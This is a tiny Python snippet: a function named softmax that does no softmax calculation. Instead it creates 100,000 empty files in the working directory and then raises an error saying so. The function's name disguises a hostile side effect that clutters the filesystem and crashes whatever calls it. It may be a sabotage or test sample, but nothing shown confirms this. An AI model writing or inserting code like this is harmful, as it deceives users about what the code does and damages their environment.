def softmax(logits):
    for number in range(100_000):
        open(str(number), "w").close()
    raise RuntimeError("100,000 files were made")
